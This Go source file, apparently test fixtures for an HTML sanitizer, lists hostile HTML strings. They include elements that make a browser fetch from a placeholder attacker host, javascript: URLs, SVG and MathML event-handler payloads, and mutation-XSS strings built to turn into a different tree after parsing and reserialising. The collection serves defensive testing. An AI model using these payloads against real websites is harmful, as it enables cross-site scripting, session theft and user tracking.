package hostile

// there is the start of an address that must never be requested.
const there = "https://" + Host

// loads are elements that make a browser request something.
func loads() []string {
	return []string{
		`<img src="` + there + `/a.png"><img srcset="` + there + `/b.png 2x" src="/c.png">`,
		`<picture><source srcset="` + there + `/a.avif"><img src="` + there + `/a.png"></picture>`,
		`<img src="` + there + `/pixel.gif" width=1 height=1 loading=eager fetchpriority=high>`,
		`<link rel=stylesheet href="` + there + `/a.css"><link rel=preload as=script href="` + there + `/a.js">`,
		`<link rel=icon href="` + there + `/a.ico"><link rel=prefetch href="` + there + `/b"><link rel=dns-prefetch href="//` + Host + `">`,
		`<style>@import url(` + there + `/a.css); body{background:url(` + there + `/b.png)}</style>`,
		`<p style="background:url(` + there + `/a.png);position:fixed;inset:0">x</p>`,
		`<body background="` + there + `/a.png"><table background="` + there + `/b.png"><tr><td background="` + there + `/c.png">x</table>`,
		`<base href="` + there + `/"><img src="a.png"><a href="b">x</a>`,
		`<meta http-equiv=refresh content="0;url=` + there + `/">`,
		`<meta http-equiv="refresh" content="0;javascript:` + run + `">`,
		`<meta http-equiv="Content-Security-Policy" content="script-src *"><meta name=referrer content=unsafe-url>`,
		`<iframe src="` + there + `/"></iframe><iframe srcdoc="<script>` + run + `</script>"></iframe>`,
		`<iframe srcdoc="&lt;img src=x onerror=parent.` + Global + `=1&gt;">`,
		`<frameset><frame src="` + there + `/"></frameset>`,
		`<object data="` + there + `/a.svg" type="image/svg+xml"><embed src="` + there + `/b.swf"></object>`,
		`<applet code=x codebase="` + there + `/"></applet><param name=movie value="` + there + `/a.swf">`,
		`<video src="` + there + `/a.mp4" poster="` + there + `/a.png" autoplay><track src="` + there + `/a.vtt" default></video>`,
		`<audio src="` + there + `/a.mp3" autoplay><source src="` + there + `/b.mp3"></audio>`,
		`<input type=image src="` + there + `/a.png"><image src="` + there + `/b.png">`,
		`<a href="` + there + `/" ping="` + there + `/ping" target=_blank rel=opener>x</a>`,
		`<form action="` + there + `/" method=post><input name=q autofocus><button>Go</button></form>`,
		`<form id=f action="` + there + `/"></form><button form=f formaction="javascript:` + run + `">x</button>`,
		`<portal src="` + there + `/"></portal><fencedframe src="` + there + `/"></fencedframe>`,
		`<blockquote cite="javascript:` + run + `">x</blockquote><q cite="` + there + `/">y</q>`,
		`<img longdesc="` + there + `/" usemap="#m" src="` + there + `/a.png"><map name=m><area href="javascript:` + run + `" coords="0,0,9,9"></map>`,
		`<table><tr><td><img src="` + there + `/a.png" lowsrc="` + there + `/b.png" dynsrc="` + there + `/c.avi"></table>`,
	}
}

// foreign is SVG and MathML, whose parsing has rules of its own.
func foreign() []string {
	return []string{
		`<svg onload="` + run + `"><script>` + run + `</script></svg>`,
		`<svg><script href="` + there + `/a.js" /></svg>`,
		`<svg><a xlink:href="javascript:` + run + `"><text y=20>x</text></a></svg>`,
		`<svg><animate onbegin="` + run + `" attributeName=x dur=1s></svg>`,
		`<svg><a><set attributeName=href to="javascript:` + run + `"/><text>x</text></a></svg>`,
		`<svg><image href="` + there + `/a.png"/><use href="` + there + `/a.svg#x"/></svg>`,
		`<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>` + run + `</script></svg>#x"/></svg>`,
		`<svg><foreignObject><iframe srcdoc="<script>` + run + `</script>"></iframe><p>x</p></foreignObject></svg>`,
		`<svg><style>*{background:url(` + there + `/a.png)}</style><rect filter="url(` + there + `/f.svg#f)"/></svg>`,
		`<svg><handler type="text/javascript" ev:event="load">` + run + `</handler></svg>`,
		`<math href="javascript:` + run + `">x</math>`,
		`<math><maction actiontype="statusline#` + there + `" xlink:href="javascript:` + run + `">x</maction></math>`,
		`<math><annotation-xml encoding="text/html"><script>` + run + `</script></annotation-xml></math>`,
		`<math><mtext><img src=x onerror="` + run + `"></mtext></math>`,
		`<svg><title><img src=x onerror="` + run + `"></title></svg>`,
		`<svg><desc><p>x<script>` + run + `</script></desc></svg>`,
	}
}

// mutations are written so that parsing them, printing them and parsing them
// again gives another tree.
func mutations() []string {
	img := `<img src=x onerror=` + run + `>`
	return []string{
		`<svg></p><style><a id="</style>` + img + `">`,
		`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=` + run + `&gt;">`,
		`<form><math><mtext></form><form><mglyph><style></math>` + img,
		`<math><mtext><mglyph><style><![CDATA[</style>` + img + `]]></style></mglyph></mtext></math>`,
		`<svg><style>&lt;img src=x onerror=` + run + `&gt;</style></svg>`,
		`<noscript><style></noscript>` + img + `</style>`,
		`<template><style></template>` + img + `</style>`,
		`<select><template><style></select>` + img + `</style></template>`,
		`<p><svg><p><style><!--</style>--><style>` + img + `</style>`,
		`<xmp><p title="</xmp>` + img + `"></xmp>`,
		`<listing>&lt;img onerror=` + run + ` src=x&gt;</listing>`,
		`<iframe><p title="</iframe>` + img + `">`,
		`<noembed><p title="</noembed>` + img + `"></noembed>`,
		`<a><table><a><svg><desc><a><style><a title="</style>` + img + `">`,
		`<div><table><div><svg><foreignObject><table><style><title></title>` + img + `</style>`,
		"<pre>\n\n\n<textarea>\n</textarea>" + img + `</pre>`,
		`<svg><annotation-xml><foreignobject><style><!--</style><p id="--><img src=x onerror=` + run + `>">`,
		`<!--<img src="--><img src=x onerror=` + run + `//">`,
		`<p title="a&#x0;b"` + "\x00" + `onclick=x>` + img + `</p>`,
		`<b><i><a href="https://` + Host + `/"><p></b></i>` + img + `</a>`,
	}
}
